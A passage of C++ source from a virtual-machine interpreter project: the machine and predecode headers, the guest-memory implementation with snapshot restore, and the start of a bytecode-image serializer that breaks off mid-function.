 * green threads, guest-memory return tokens, the counter runtime
 * (cnt, counter stack, barrier iteration bookkeeping), and the
 * SyscallPort interception boundary the dual-execution engine plugs
 * into.
 *
 * step() advances at most one instruction; contexts blocked on the
 * port are re-polled when scheduled. This lets a driver interleave
 * two machines deterministically (LockstepDriver) or run them on two
 * OS threads (ThreadedDriver) without the machine knowing which.
 */
#pragma once

#include <array>
#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "obs/profiler.h"
#include "obs/scope.h"
#include "os/kernel.h"
#include "support/prng.h"
#include "vm/hooks.h"
#include "vm/memory.h"
#include "vm/predecode.h"

/**
 * Computed-goto (token-threaded) dispatch needs the GNU address-of-
 * label extension. Define LDX_FORCE_SWITCH_DISPATCH to build the
 * portable switch fallback everywhere (the CI matrix covers it).
 */
#if !defined(LDX_FORCE_SWITCH_DISPATCH) && \
    (defined(__GNUC__) || defined(__clang__))
#define LDX_HAS_COMPUTED_GOTO 1
#else
#define LDX_HAS_COMPUTED_GOTO 0
#endif

namespace ldx::vm {

/**
 * Fast-path dispatch strategy. All modes retire the identical
 * instruction stream — verdicts, stats, and recorder event order are
 * byte-identical — only the wall clock moves (docs/PERFORMANCE.md).
 */
enum class DispatchMode
{
    Switch,   ///< portable switch loop (the seed fast path)
    Threaded, ///< computed-goto token threading, run chaining
    Fused,    ///< Threaded + superinstruction pairs (default)
};

/** True when this build can run computed-goto dispatch. */
inline constexpr bool
hasThreadedDispatch()
{
    return LDX_HAS_COMPUTED_GOTO != 0;
}

/** Stable mode name ("switch" | "threaded" | "fused"). */
const char *dispatchModeName(DispatchMode mode);

/** Parse a --dispatch value; false on unknown names. */
bool parseDispatchMode(const std::string &name, DispatchMode &out);

/** Result of one step() call. */
enum class StepStatus
{
    Progress,  ///< one instruction executed
    Stalled,   ///< every pollable context is blocked on the port
    Finished,  ///< program completed (normally or via exit())
    Trapped,   ///< a guest fault terminated the program
};

/** Per-invocation activation record. */
struct Frame
{
    int fn = -1;
    int block = 0;
    int ip = 0;                      ///< next instruction index
    std::vector<std::int64_t> regs;
    std::uint64_t spAtEntry = 0;
    std::uint64_t tokenAddr = 0;     ///< 0 for the entry frame
    std::int64_t token = 0;          ///< expected return token
    int retReg = -1;                 ///< caller register for the result
};

/** One green thread. */
struct Context
{
    enum class State
    {
        Runnable,
        BlockedPort,   ///< syscall/barrier waiting on the port
        BlockedMutex,
        BlockedJoin,
        Done,
    };

    int tid = 0;
    State state = State::Runnable;
    std::vector<Frame> frames;
    std::uint64_t sp = 0;

    // Counter runtime (§4-§6).
    std::int64_t cnt = 0;
    std::vector<std::int64_t> cntStack;
    std::map<std::int64_t, std::int64_t> barrierIter;
    bool portApproved = false; ///< current syscall already aligned

    std::int64_t joinTarget = -1;
    std::int64_t mutexWait = -1;
    std::int64_t retVal = 0;

    // Dynamic counter statistics (Table 1 "dyn. cnt" columns).
    std::uint64_t instrCount = 0;
    std::int64_t maxCnt = 0;
    double cntSum = 0.0;
    std::uint64_t cntSamples = 0;
    std::size_t maxCntDepth = 0;

    /** Previous retired opcode (0xff none); pair-profile bookkeeping. */
    std::uint8_t lastOp = 0xff;
};

/** Trap report. */
struct TrapInfo
{
    TrapKind kind = TrapKind::MemoryFault;
    std::string message;
    int tid = 0;
    ir::SourceLoc loc;
};

/** Machine configuration. */
struct MachineConfig
{
    std::uint64_t stackSize = 1 << 16;
    int maxThreads = 16;
    int quantum = 50;              ///< instructions per scheduling slice
    std::uint64_t schedSeed = 1;   ///< preemption jitter seed
    bool schedJitter = false;      ///< vary slice lengths (Table 4 runs)
    std::uint64_t maxInstructions = 200'000'000;
    /**
     * Dispatch through the predecoded instruction stream (see
     * predecode.h). Retired state is bit-identical to the legacy
     * per-step path; disable to force the seed interpreter (the
     * differential-test oracle).
     */
    bool predecode = true;
    /**
     * Fast-path dispatch strategy (`--dispatch`). Threaded/Fused
     * degrade to Switch when the build lacks computed goto
     * (hasThreadedDispatch()); semantics never depend on the mode.
     */
    DispatchMode dispatch = DispatchMode::Fused;
    /**
     * Optional shared predecoded module (image loads, campaign
     * reuse). Must be decodeAll()ed — the machine then never mutates
     * it, so one instance can back many VMs, including the threaded
     * driver's two sides. Null: the machine predecodes privately
     * (lazily) when `predecode` is set.
     */
    std::shared_ptr<PredecodedModule> predecoded;
    /**
     * Dynamic opcode-pair profile: when non-null, points at a
     * kNumOpcodes x kNumOpcodes row-major table and every retired
     * (previous, current) opcode pair per context increments one
     * cell. Forces the legacy per-step path so every instruction is
     * observed; used by bench/interp_throughput to curate the
     * superinstruction set.
     */
    std::uint64_t *pairProfile = nullptr;
    /**
     * Guest-level site profiler (docs/OBSERVABILITY.md): when
     * non-null, the machine shapes the counters to the decoded
     * program at construction and attributes retired instructions,
     * syscall counts, virtual syscall latency, blocked re-polls, and
     * call edges to decoded instruction sites as it runs. Requires
     * predecode; the counting is a template parameter of the fast
     * paths, so a null pointer costs literally zero cycles
     * (docs/PERFORMANCE.md, "Zero-cost-when-off site counters").
     */
    obs::SiteCounters *siteProfile = nullptr;
    /**
     * Fault injection for the fuzzing oracle's self-test: when
     * nonzero, every Nth retired CntAdd is skipped (its compensation
     * delta is dropped), applied identically on both decode paths.
     * This simulates a missed compensating increment — the class of
     * instrumentation bug the final-counter invariant exists to
     * catch. Never set outside tests / `ldx fuzz --inject-skip-cnt`.
     */
    std::uint64_t chaosSkipCntAddPeriod = 0;
};

/** Aggregated runtime statistics. */
struct MachineStats
{
    std::uint64_t instructions = 0;
    std::uint64_t syscalls = 0;
    std::int64_t maxCnt = 0;
    double avgCnt = 0.0;
    std::size_t maxCntDepth = 0;
    std::uint64_t barriers = 0;

    // Retired instruction mix by opcode category.
    std::uint64_t mixData = 0;    ///< Const/Move
    std::uint64_t mixAlu = 0;     ///< arithmetic, compares, Neg/Not
    std::uint64_t mixMem = 0;     ///< Load/Store/Alloca/GlobalAddr
    std::uint64_t mixCall = 0;    ///< Call/ICall/FnAddr/LibCall/Ret
    std::uint64_t mixBranch = 0;  ///< Br/CondBr
    std::uint64_t mixSyscall = 0; ///< Syscall
    std::uint64_t mixCounter = 0; ///< CntAdd/SyncBarrier/CntPush/CntPop
};

/** Function-address token encoding used by FnAddr / ICall. */
constexpr std::int64_t kFnTokenBase = 0x7c00000000000000LL;

/**
 * A full machine checkpoint: every piece of interpreter state needed
 * to resume (or fork) an execution bit-identically — contexts with
 * their frames and counter runtime, the scheduler (current context,
 * remaining slice, jitter PRNG, poll bookkeeping), guest memory, the
 * mutex tables, and the retirement statistics. The memory arena is
 * shared by shared_ptr, so many forks of one snapshot alias a single
 * copy. Produced by Machine::captureImage(), consumed by
 * Machine::restoreImage() on a machine built from the same module
 * and an equivalent MachineConfig.
 */
struct MachineImage
{
    std::shared_ptr<const MemoryImage> memory;
    std::vector<Context> contexts;
    int curCtx = -1;
    int sliceLeft = 0;
    Prng schedPrng{1};
    std::vector<std::uint64_t> triedSeen;
    std::uint64_t triedGen = 0;
    std::map<std::int64_t, std::int64_t> mutexOwner;
    std::map<std::int64_t, std::vector<int>> mutexWaiters;
    bool started = false;
    bool finished = false;
    std::int64_t exitCode = 0;
    std::optional<TrapInfo> trap;
    std::uint64_t totalInstrs = 0;
    std::uint64_t totalSyscalls = 0;
    std::uint64_t chaosCntAdds = 0;
    std::uint64_t totalBarriers = 0;
    std::array<std::uint64_t,
               static_cast<std::size_t>(ir::kNumOpcodes)>
        opCounts{};
};

/** The interpreter. */
class Machine
{
  public:
    Machine(const ir::Module &module, os::Kernel &kernel,
            MachineConfig cfg = {});

    /** Create the main context; must be called once before step(). */
    void start();

    /** Advance at most one instruction. */
    StepStatus step();

    /**
     * Advance up to @p budget instructions, stopping early at the
     * first blocked poll round, trap, or completion — semantically
     * identical to calling step() until the first non-Progress
     * result. @p retired is set to the number of instructions that
     * actually retired. On the fast path (predecode enabled, no
     * ExecHook) this batches dispatch and accounting per run.
     */
    StepStatus stepMany(std::uint64_t budget, std::uint64_t &retired);

    /** Run to completion (native, non-dual executions). */
    StepStatus run();

    /**
     * Ask the machine to stall at the current boundary. Checked
     * before the blocked-poll bookkeeping mutates any scheduler state
     * (slice, poll generation), so a paused machine's state is
     * exactly the state an un-paused machine had going *into* the
     * blocked attempt: clearing the pause and stepping again replays
     * the attempt identically. Set by the snapshot trigger from
     * inside a SyscallPort; step()/stepMany() report Stalled while
     * pending.
     */
    void requestPause() { pausePending_ = true; }
    void clearPause() { pausePending_ = false; }
    bool pauseRequested() const { return pausePending_; }

    /**
     * Checkpoint the complete interpreter state (contexts, scheduler,
     * memory arena, mutexes, statistics) into a MachineImage.
     */
    MachineImage captureImage() const;

    /**
     * Overwrite this machine's state from @p image. The machine must
     * wrap the same module with an equivalent MachineConfig (same
     * layout parameters); the kernel behind it is whatever this
     * machine was constructed with — forking swaps in a patched
     * kernel copy that way. @p chaos_drop_page forwards to
     * Memory::restore (stale-snapshot fault injection).
     */
    void restoreImage(const MachineImage &image,
                      std::uint64_t chaos_drop_page = 0);

    bool finished() const { return finished_; }
    std::int64_t exitCode() const { return exitCode_; }
    const std::optional<TrapInfo> &trap() const { return trap_; }

    void setSyscallPort(SyscallPort *port) { port_ = port; }
    void setExecHook(ExecHook *hook) { execHook_ = hook; }
    void setSinkHook(SinkHook *hook) { sinkHook_ = hook; }

    /** Attach observability: thread lifecycle / trap trace instants. */
    void
    setObs(obs::Scope *scope, int lane)
    {
        obs_ = scope;
        obsLane_ = lane;
    }

    Memory &memory() { return *memory_; }
    const Memory &memory() const { return *memory_; }
    os::Kernel &kernel() { return kernel_; }
    const ir::Module &module() const { return module_; }

    const Context &context(int tid) const { return *contexts_[tid]; }
    std::size_t numContexts() const { return contexts_.size(); }

    MachineStats stats() const;

    /** Address of global @p id in guest memory. */
    std::uint64_t globalAddr(int id) const { return globalAddrs_[id]; }

  private:
    /** Pick the next pollable context; -1 when none. */
    int pickContext();

    /** Execute one instruction of @p ctx; returns false if blocked. */
    bool executeOne(Context &ctx);

    /**
     * Execute one run of fast instructions of @p ctx (at most
     * @p limit of them) through the predecoded stream; returns the
     * number retired. Never blocks — the caller dispatches slow
     * (flagged) instructions through executeOne. This is the
     * portable switch dispatcher (DispatchMode::Switch).
     * @tparam Profiled compile per-site profile counting in/out.
     */
    template <bool Profiled>
    std::uint64_t fastRun(Context &ctx, std::uint64_t limit);

    /**
     * Token-threaded dispatcher: computed-goto dispatch that also
     * chains across branches, so one call retires up to @p limit
     * instructions without bouncing through stepMany at every block
     * boundary. With Fused, marked pairs (DecodedInstr::xop) retire
     * in a single dispatch. Retired state is bit-identical to
     * fastRun. Only compiled when LDX_HAS_COMPUTED_GOTO.
     * @tparam Profiled compile per-site profile counting in/out.
     */
    template <bool Fused, bool Profiled>
    std::uint64_t fastRunThreaded(Context &ctx, std::uint64_t limit);

    /** True when the predecoded dispatch loop may be used. */
    bool
    useFastPath() const
    {
        return decoded_ != nullptr && execHook_ == nullptr &&
               cfg_.pairProfile == nullptr;
    }

    /** Count a retired opcode into cfg_.pairProfile (when set). */
    void
    profilePair(Context &ctx, ir::Opcode op)
    {
        if (!cfg_.pairProfile)
            return;
        std::uint8_t cur = static_cast<std::uint8_t>(op);
        if (ctx.lastOp != 0xff)
            ++cfg_.pairProfile[static_cast<std::size_t>(ctx.lastOp) *
                                   static_cast<std::size_t>(
                                       ir::kNumOpcodes) +
                               cur];
        ctx.lastOp = cur;
    }

    /** Shared completion/deadlock handling when no context is pollable. */
    StepStatus settleNoPollable();

    /** Handle the Syscall opcode; returns false if blocked. */
    bool doSyscall(Context &ctx, const ir::Instr &instr);

    /** Internal (thread/mutex) syscall semantics after port approval. */
    bool doLocalSyscall(Context &ctx, const ir::Instr &instr,
                        const SyscallRequest &req, os::Outcome &out);

    void doCall(Context &ctx, const ir::Instr &instr, int callee);
    void doRet(Context &ctx, const ir::Instr &instr);
    std::int64_t doLibCall(Context &ctx, const ir::Instr &instr,
                           std::uint64_t &eff_addr);

    std::int64_t eval(const Context &ctx, const ir::Operand &op) const;
    void setReg(Context &ctx, int reg, std::int64_t v);

    Context &newContext(int fn, std::vector<std::int64_t> args);
    void finishContext(Context &ctx, std::int64_t ret_val);
    void finishProgram(std::int64_t code);

    std::int64_t makeToken(int fn, int block, int ip) const;

    /** Record + trace an instant on this machine's lane (null-safe). */
    void emitObsInstant(obs::RecKind kind, const char *name, int tid,
                        const std::string &detail = std::string());

    /** cfg_.dispatch resolved against compiler support. */
    enum class ResolvedDispatch
    {
        Switch,
        Goto,
        GotoFused,
    };

    const ir::Module &module_;
    os::Kernel &kernel_;
    MachineConfig cfg_;
    std::unique_ptr<Memory> memory_;
    std::unique_ptr<PredecodedModule> decodedOwned_;
    std::shared_ptr<PredecodedModule> decodedShared_;
    PredecodedModule *decoded_ = nullptr;
    ResolvedDispatch dispatch_ = ResolvedDispatch::Switch;
    obs::SiteCounters *prof_ = nullptr; ///< cfg_.siteProfile, shaped
    std::vector<std::uint64_t> globalAddrs_;

    std::vector<std::unique_ptr<Context>> contexts_;
    int curCtx_ = -1;
    int sliceLeft_ = 0;
    Prng schedPrng_;

    // stepMany poll bookkeeping: a context whose generation equals
    // triedGen_ has already been polled without progress since the
    // last retired instruction (mirrors step()'s tried[] vector
    // without the per-call allocation).
    std::vector<std::uint64_t> triedSeen_;
    std::uint64_t triedGen_ = 0;

    // Mutexes: id -> owner tid (-1 free) and FIFO waiters.
    std::map<std::int64_t, std::int64_t> mutexOwner_;
    std::map<std::int64_t, std::vector<int>> mutexWaiters_;

    SyscallPort *port_ = nullptr;
    ExecHook *execHook_ = nullptr;
    SinkHook *sinkHook_ = nullptr;
    obs::Scope *obs_ = nullptr;
    int obsLane_ = 0;

    bool started_ = false;
    bool finished_ = false;
    bool pausePending_ = false;
    std::int64_t exitCode_ = 0;
    std::optional<TrapInfo> trap_;
    std::uint64_t totalInstrs_ = 0;
    std::uint64_t totalSyscalls_ = 0;
    std::uint64_t chaosCntAdds_ = 0; ///< CntAdds seen (fault injection)
    std::uint64_t totalBarriers_ = 0;
    std::array<std::uint64_t,
               static_cast<std::size_t>(ir::kNumOpcodes)>
        opCounts_{};
};

} // namespace ldx::vm
