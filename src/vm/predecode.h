/**
 * @file
 * Predecoded instruction stream for the fast-path interpreter.
 *
 * Each ir::Function is flattened once into a dense DecodedInstr array:
 * all blocks concatenated, branch targets resolved to flat indices,
 * operands pre-classified (register slot vs. immediate value), and a
 * flag byte marking the instructions the fast loop cannot retire
 * inline (calls, returns, syscalls, barriers, counter-stack ops).
 * The interpreter walks the array with a local program counter and
 * only re-derives (block, ip) frame coordinates at run boundaries, so
 * the hot loop does no fn.block()/bb.instrs()[ip] pointer chasing.
 *
 * A "run" is a maximal sequence of fast instructions inside one
 * block. Every run that starts at its canonical head carries a
 * precomputed per-opcode histogram so retirement accounting
 * (opCounts_, instruction budget, kernel ticks) is batched per run
 * instead of per instruction; resuming mid-run (after a syscall or a
 * scheduling slice boundary) falls back to walking the retired range.
 */
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "ir/ir.h"
#include "obs/profiler.h"

namespace ldx::vm {

/**
 * Execution opcodes: the base ir::Opcode values [0, kNumOpcodes) plus
 * fused superinstruction ids. A DecodedInstr whose xop is a fused id
 * retires itself AND its successor in one dispatch when the threaded
 * (computed-goto) interpreter runs it with at least two instructions
 * of budget left; every other path ignores xop and dispatches the
 * base opcode, so retired state is identical either way.
 *
 * The pair set is curated from the dynamic opcode-pair profile that
 * `bench/interp_throughput` dumps (docs/PERFORMANCE.md "Dispatch &
 * bytecode images"): compare-and-branch dominates every workload, the
 * CntAdd-led pairs are the instrumentation tax at block heads and
 * loop latches, and the memory pairs cover the hot array kernels.
 */
enum : std::uint8_t
{
    kXopFusedBase = static_cast<std::uint8_t>(ir::kNumOpcodes),
    kXopCmpEqCondBr = kXopFusedBase,
    kXopCmpNeCondBr,
    kXopCmpLtCondBr,
    kXopCmpLeCondBr,
    kXopCmpGtCondBr,
    kXopCmpGeCondBr,
    kXopCntAddBr,
    kXopCntAddConst,
    kXopCntAddLoad,
    kXopCntAddMove,
    kXopLoadAdd,
    kXopAddStore,
    kXopConstStore,
    kXopCount, ///< dispatch table size
};

/** Fused execution opcode for the adjacent pair (a, b); 0 = none. */
std::uint8_t fusedXop(ir::Opcode a, ir::Opcode b);

/** True for opcodes the fast loop defers to executeOne (kSlow). */
bool isSlowOpcode(ir::Opcode op);

/** One pre-resolved instruction (fits in a cache line). */
struct DecodedInstr
{
    // Flag byte: dispatch class + operand classification.
    static constexpr std::uint8_t kSlow = 1 << 0; ///< needs executeOne
    static constexpr std::uint8_t kTerm = 1 << 1; ///< ends its block
    static constexpr std::uint8_t kAReg = 1 << 2; ///< a is a register
    static constexpr std::uint8_t kBReg = 1 << 3; ///< b is a register

    ir::Opcode op = ir::Opcode::Const;
    std::uint8_t flags = 0;
    std::uint8_t size = 8;        ///< Load/Store width (1 or 8)
    std::uint8_t xop = 0;         ///< execution opcode (op or fused id)
    std::int32_t dst = -1;
    std::int64_t a = 0;           ///< register index or immediate
    std::int64_t b = 0;           ///< register index or immediate
    std::int64_t imm = 0;         ///< op-specific payload (see decoder)
    std::int32_t target0 = -1;    ///< flat index of Br/CondBr-true target
    std::int32_t target1 = -1;    ///< flat index of CondBr-false target
    std::int32_t block = 0;       ///< owning block id
    std::int32_t ip = 0;          ///< index within the owning block
    std::int32_t histIdx = -1;    ///< run histogram at canonical heads
    std::uint16_t runLen = 1;     ///< fast instrs from here to run end
    const ir::Instr *src = nullptr; ///< original instruction

    bool isSlow() const { return flags & kSlow; }
};

/** Sparse per-opcode retirement counts of one run. */
using RunHist = std::vector<std::pair<ir::Opcode, std::uint32_t>>;

/** One function flattened for dispatch. */
class DecodedFunction
{
  public:
    explicit DecodedFunction(const ir::Function &fn);

    /**
     * Adopt a stream deserialized from a bytecode image (vm/image.h).
     * The parts must already be validated: the loader bounds-checks
     * every field and the fusion marks before constructing this.
     */
    DecodedFunction(std::vector<DecodedInstr> code,
                    std::vector<std::uint32_t> block_start,
                    std::vector<RunHist> hists)
        : code_(std::move(code)), blockStart_(std::move(block_start)),
          hists_(std::move(hists))
    {}

    const DecodedInstr *code() const { return code_.data(); }
    std::size_t numInstrs() const { return code_.size(); }
    std::size_t numBlocks() const { return blockStart_.size(); }
    std::size_t numHists() const { return hists_.size(); }

    /** Flat index of the first instruction of @p block. */
    std::uint32_t
    blockStart(int block) const
    {
        return blockStart_[static_cast<std::size_t>(block)];
    }

    const RunHist &
    hist(std::int32_t idx) const
    {
        return hists_[static_cast<std::size_t>(idx)];
    }

  private:
    std::vector<DecodedInstr> code_;
    std::vector<std::uint32_t> blockStart_;
    std::vector<RunHist> hists_;
};

/**
 * Lazily decoded view of a whole module.
 *
 * A module shared across machines (EngineConfig/campaign reuse, image
 * loads) must be fully decoded first — decodeAll() — after which
 * function() is a pure read and safe from concurrent VM threads.
 */
class PredecodedModule
{
  public:
    explicit PredecodedModule(const ir::Module &module);

    /** The decoded form of function @p fn (built on first use). */
    const DecodedFunction &
    function(int fn)
    {
        auto &slot = fns_[static_cast<std::size_t>(fn)];
        if (!slot)
            slot = std::make_unique<DecodedFunction>(
                module_.function(fn));
        return *slot;
    }

    /** Eagerly decode every function (required before sharing). */
    void decodeAll();

    /** True once every function slot is built. */
    bool fullyDecoded() const;

    /** Install a stream deserialized from an image (vm/image.cc). */
    void
    adopt(int fn, std::unique_ptr<DecodedFunction> df)
    {
        fns_[static_cast<std::size_t>(fn)] = std::move(df);
    }

    const ir::Module &module() const { return module_; }
    std::size_t numFunctions() const { return fns_.size(); }

  private:
    const ir::Module &module_;
    std::vector<std::unique_ptr<DecodedFunction>> fns_;
};

/**
 * Site metadata for the guest-level profiler: one obs::SiteMeta per
 * decoded instruction (opcode name, source location, instrumentation
 * site id), in the exact (function, flat offset) shape the profiled
 * interpreter counts in. Decodes any not-yet-built function. @p
 * program labels the report; @p source is the MiniC text for the
 * annotated listing (may be empty).
 */
obs::ProfileMeta buildProfileMeta(PredecodedModule &pm,
                                  const std::string &program,
                                  const std::string &source);

} // namespace ldx::vm
