#include "vm/memory.h"

#include <algorithm>
#include <cstdio>

namespace ldx::vm {

const char *
trapKindName(TrapKind kind)
{
    switch (kind) {
      case TrapKind::MemoryFault: return "memory-fault";
      case TrapKind::DivideByZero: return "divide-by-zero";
      case TrapKind::BadIndirectCall: return "bad-indirect-call";
      case TrapKind::ControlHijack: return "control-hijack";
      case TrapKind::StackOverflow: return "stack-overflow";
      case TrapKind::BudgetExceeded: return "budget-exceeded";
      case TrapKind::BadSyscall: return "bad-syscall";
    }
    return "?";
}

Memory::Memory(std::uint64_t globals_size, std::uint64_t stack_size,
               int max_threads, std::uint64_t heap_jitter)
    : globalsSize_(globals_size), stackSize_(stack_size),
      maxThreads_(max_threads), heapBase_(kHeapBase + heap_jitter),
      heapBrk_(heapBase_),
      globals_(globals_size, 0),
      stacks_(stack_size * static_cast<std::uint64_t>(max_threads), 0)
{}

std::uint8_t *
Memory::resolve(std::uint64_t addr) const
{
    if (addr >= kGlobalsBase && addr < kGlobalsBase + globalsSize_)
        return &globals_[addr - kGlobalsBase];
    std::uint64_t stacks_size = stacks_.size();
    if (addr >= kStackBase && addr < kStackBase + stacks_size)
        return &stacks_[addr - kStackBase];
    if (addr >= heapBase_ && addr < heapBrk_)
        return &heap_[addr - heapBase_];
    throw VmTrap(TrapKind::MemoryFault,
                 "bad address 0x" + [addr] {
                     char buf[32];
                     std::snprintf(buf, sizeof(buf), "%llx",
                                   static_cast<unsigned long long>(addr));
                     return std::string(buf);
                 }());
}

std::uint8_t
Memory::readU8(std::uint64_t addr) const
{
    return *resolve(addr);
}

void
Memory::writeU8(std::uint64_t addr, std::uint8_t v)
{
    *resolve(addr) = v;
}

std::int64_t
Memory::readI64(std::uint64_t addr) const
{
    std::uint64_t v = 0;
    for (int i = 7; i >= 0; --i)
        v = (v << 8) | readU8(addr + static_cast<std::uint64_t>(i));
    return static_cast<std::int64_t>(v);
}

void
Memory::writeI64(std::uint64_t addr, std::int64_t value)
{
    std::uint64_t v = static_cast<std::uint64_t>(value);
    for (int i = 0; i < 8; ++i) {
        writeU8(addr + static_cast<std::uint64_t>(i),
                static_cast<std::uint8_t>(v & 0xff));
        v >>= 8;
    }
}

std::string
Memory::readBytes(std::uint64_t addr, std::uint64_t n) const
{
    std::string out;
    out.reserve(n);
    for (std::uint64_t i = 0; i < n; ++i)
        out += static_cast<char>(readU8(addr + i));
    return out;
}

void
Memory::writeBytes(std::uint64_t addr, const std::string &data)
{
    for (std::size_t i = 0; i < data.size(); ++i)
        writeU8(addr + i, static_cast<std::uint8_t>(data[i]));
}

std::string
Memory::readCString(std::uint64_t addr, std::uint64_t max_len) const
{
    std::string out;
    for (std::uint64_t i = 0; i < max_len; ++i) {
        char c = static_cast<char>(readU8(addr + i));
        if (c == '\0')
            return out;
        out += c;
    }
    return out;
}

std::shared_ptr<const MemoryImage>
Memory::snapshot() const
{
    auto image = std::make_shared<MemoryImage>();
    image->globals = globals_;
    image->stacks = stacks_;
    image->heap = heap_;
    image->heapBrk = heapBrk_;
    return image;
}

void
Memory::restore(const MemoryImage &image, std::uint64_t chaos_drop_page)
{
    // Segment-by-segment copy over the concatenation
    // globals | stacks | heap. The injector skips the Nth *dirty*
    // page — one whose current bytes differ from the image — which
    // models the stale-snapshot bug (a dirtied copy-on-write page
    // whose capture was missed): the page silently keeps its
    // pre-restore content. Pages already matching the image don't
    // count, so the skip is observable whenever it happens at all;
    // with fewer than N dirty pages the restore is complete and the
    // injection is a no-op.
    std::vector<std::uint8_t> *segs[3] = {&globals_, &stacks_, &heap_};
    const std::vector<std::uint8_t> *srcs[3] = {&image.globals,
                                                &image.stacks,
                                                &image.heap};
    std::uint64_t dirty_seen = 0;
    for (int s = 0; s < 3; ++s) {
        const std::vector<std::uint8_t> &src = *srcs[s];
        std::vector<std::uint8_t> &dst = *segs[s];
        dst.resize(src.size(), 0);
        for (std::uint64_t off = 0; off < src.size();
             off += kSnapshotPageSize) {
            std::uint64_t n =
                std::min<std::uint64_t>(kSnapshotPageSize,
                                        src.size() - off);
            if (chaos_drop_page &&
                !std::equal(src.begin() + off, src.begin() + off + n,
                            dst.begin() + off) &&
                ++dirty_seen == chaos_drop_page)
                continue;
            std::copy(src.begin() + off, src.begin() + off + n,
                      dst.begin() + off);
        }
    }
    heapBrk_ = image.heapBrk;
    ++version_;
}

std::uint64_t
Memory::heapAlloc(std::uint64_t n)
{
    n = (n + 7) & ~std::uint64_t{7};
    std::uint64_t addr = heapBrk_;
    heapBrk_ += n;
    heap_.resize(heapBrk_ - heapBase_, 0);
    return addr;
}

std::uint64_t
Memory::stackTop(int tid) const
{
    return kStackBase + stackSize_ * static_cast<std::uint64_t>(tid + 1);
}

std::uint64_t
Memory::stackFloor(int tid) const
{
    return kStackBase + stackSize_ * static_cast<std::uint64_t>(tid);
}

} // namespace ldx::vm
