#include "vm/image.h"

#include <array>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "ir/verifier.h"
#include "obs/recorder.h"

namespace ldx::vm {

namespace {

/** Internal parse failure: any throw unwinds to a clean cache miss. */
struct BadImage
{};

constexpr std::size_t kHeaderSize = 8 + 4 + 4 + 4 + 4 + 8 + 8 + 8;
/** Header bytes covered by the digest (magic through contentHash). */
constexpr std::size_t kHashedPrefix = 8 + 4 + 4 + 4 + 4 + 8;
constexpr std::size_t kMaxName = 1u << 16;
constexpr std::size_t kMaxInit = 1u << 26;

/** Little-endian append-only byte sink. */
struct Writer
{
    std::string out;

    void
    u8(std::uint8_t v)
    {
        out.push_back(static_cast<char>(v));
    }

    void
    u16(std::uint16_t v)
    {
        for (int i = 0; i < 2; ++i)
            u8(static_cast<std::uint8_t>(v >> (8 * i)));
    }

    void
    u32(std::uint32_t v)
    {
        for (int i = 0; i < 4; ++i)
            u8(static_cast<std::uint8_t>(v >> (8 * i)));
    }

    void
    u64(std::uint64_t v)
    {
        for (int i = 0; i < 8; ++i)
            u8(static_cast<std::uint8_t>(v >> (8 * i)));
    }

    void i32(std::int32_t v) { u32(static_cast<std::uint32_t>(v)); }
    void i64(std::int64_t v) { u64(static_cast<std::uint64_t>(v)); }

    void
    str(const std::string &s)
    {
        u32(static_cast<std::uint32_t>(s.size()));
        out.append(s);
    }
};

/** Bounds-checked little-endian cursor; throws BadImage past the end. */
struct Reader
{
    const std::string &s;
    std::size_t pos = 0;

    void
    need(std::size_t n) const
    {
        if (s.size() - pos < n)
            throw BadImage{};
    }

    std::uint8_t
    u8()
    {
        need(1);
        return static_cast<std::uint8_t>(s[pos++]);
    }

    std::uint16_t
    u16()
    {
        std::uint16_t v = 0;
        for (int i = 0; i < 2; ++i)
            v |= static_cast<std::uint16_t>(u8()) << (8 * i);
        return v;
    }

    std::uint32_t
    u32()
    {
        std::uint32_t v = 0;
        for (int i = 0; i < 4; ++i)
            v |= static_cast<std::uint32_t>(u8()) << (8 * i);
        return v;
    }

    std::uint64_t
    u64()
    {
        std::uint64_t v = 0;
        for (int i = 0; i < 8; ++i)
            v |= static_cast<std::uint64_t>(u8()) << (8 * i);
        return v;
    }

    std::int32_t i32() { return static_cast<std::int32_t>(u32()); }
    std::int64_t i64() { return static_cast<std::int64_t>(u64()); }

    std::string
    str(std::size_t cap)
    {
        std::uint32_t n = u32();
        if (n > cap)
            throw BadImage{};
        need(n);
        std::string v = s.substr(pos, n);
        pos += n;
        return v;
    }

    /** A count that must leave at least @p unit bytes per element. */
    std::uint32_t
    count(std::size_t unit)
    {
        std::uint32_t n = u32();
        if (unit && n > (s.size() - pos) / unit)
            throw BadImage{};
        return n;
    }

    std::size_t remaining() const { return s.size() - pos; }
};

void
putOperand(Writer &w, const ir::Operand &o)
{
    w.u8(static_cast<std::uint8_t>(o.kind));
    w.i32(o.reg);
    w.i64(o.imm);
}

ir::Operand
getOperand(Reader &r)
{
    std::uint8_t kind = r.u8();
    if (kind > static_cast<std::uint8_t>(ir::Operand::Kind::Imm))
        throw BadImage{};
    ir::Operand o;
    o.kind = static_cast<ir::Operand::Kind>(kind);
    o.reg = r.i32();
    o.imm = r.i64();
    return o;
}

void
putModule(Writer &w, const ir::Module &m)
{
    w.u32(static_cast<std::uint32_t>(m.numGlobals()));
    for (std::size_t g = 0; g < m.numGlobals(); ++g) {
        const ir::Global &gl = m.global(static_cast<int>(g));
        w.str(gl.name);
        w.i64(gl.size);
        w.str(gl.init);
    }
    w.u32(static_cast<std::uint32_t>(m.numFunctions()));
    for (std::size_t f = 0; f < m.numFunctions(); ++f) {
        const ir::Function &fn = m.function(static_cast<int>(f));
        w.str(fn.name());
        w.i32(fn.numParams());
        w.i32(fn.numRegs());
        w.u32(static_cast<std::uint32_t>(fn.numBlocks()));
        for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
            const auto &instrs = fn.block(static_cast<int>(b)).instrs();
            w.u32(static_cast<std::uint32_t>(instrs.size()));
            for (const ir::Instr &in : instrs) {
                w.u8(static_cast<std::uint8_t>(in.op));
                w.i32(in.dst);
                putOperand(w, in.a);
                putOperand(w, in.b);
                w.u32(static_cast<std::uint32_t>(in.args.size()));
                for (const ir::Operand &a : in.args)
                    putOperand(w, a);
                w.i32(in.callee);
                w.i64(in.imm);
                w.i32(in.size);
                w.i32(in.target0);
                w.i32(in.target1);
                w.i32(in.site);
                w.i32(in.loc.line);
                w.i32(in.loc.col);
            }
        }
    }
}

std::unique_ptr<ir::Module>
getModule(Reader &r)
{
    auto m = std::make_unique<ir::Module>();
    std::uint32_t nglobals = r.count(4 + 8 + 4);
